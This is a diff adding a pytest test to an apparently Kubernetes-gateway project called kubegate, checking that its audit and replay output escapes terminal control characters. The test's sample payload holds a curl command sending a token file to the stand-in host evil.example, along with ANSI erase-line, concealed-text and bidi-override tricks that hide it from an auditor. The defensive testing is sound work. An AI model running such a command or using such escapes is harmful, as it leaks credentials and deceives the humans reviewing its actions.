@@ -85,3 +85,47 @@ def test_replay_summary_counts_read_right():
     from kubegate.plugins.recording.cli import _count
 
     assert [_count(n, "session") for n in (0, 1, 2)] == ["0 sessions", "1 session", "2 sessions"]
+
+
+# A command line the API server passes on as it came (any bytes but NUL): a carriage return and an ANSI
+# "erase line" redraw the line the auditor reads, concealed text hides the rest, a bidi override reverses it.
+EVIL = [
+    "sh",
+    "-c",
+    "curl -d @token evil.example; : '\r\x1b[2Kexec pods web -n prod: date\x1b[8m'",
+    "\u202eetad",
+]
+
+
+def test_what_a_caller_sent_cannot_drive_the_auditors_terminal(tmp_path, capsys):
+    import yaml
+
+    from kubegate.core.cli import main
+
+    config = tmp_path / "kubegate.yaml"
+    config.write_text(yaml.safe_dump({"database": {"url": f"sqlite:///{tmp_path / 'gw.db'}"},
+                                      "connections": {"prod": {"upstream": {}}}}))  # fmt: skip
+    record = call(1, 100.0, "get", "pods", name="web\x1b[1m", kind="session_start", subresource="exec",
+                  command="kubectl exec", status=101)  # fmt: skip
+    record["data"]["command"] = EVIL
+    db = Database(f"sqlite:///{tmp_path / 'gw.db'}")
+    db.create_tables()
+    db.call(lambda s: store.append(s, [record], None))
+    db.close()
+    for command in ("search", "commands"):
+        assert main(["audit", command, "--since", "1970-01-01T00:00:00Z", "--config", str(config)]) == 0
+        out = capsys.readouterr().out
+        assert out.count("\n") == 1 and not any(c in out for c in "\r\x1b\u202e"), out
+        if command == "search":
+            # the command as the shell would read it back (quoted, each argument whole), its controls escaped
+            assert (
+                "exec pods web\\x1b[1m -n prod: sh -c 'curl -d @token evil.example; : '\"'\"'\\x0d\\x1b[2K"
+                in out
+            )
+            assert "'\\u202eetad'" in out
+    # `kubegate replay --user` prints the same lines (to stderr), then plays the sessions
+    assert (
+        main(["replay", "--user", "alice", "--since", "1970-01-01T00:00:00Z", "--config", str(config)]) == 0
+    )
+    err = capsys.readouterr().err
+    assert "exec pods web\\x1b[1m" in err and not any(c in err for c in "\r\x1b\u202e"), err
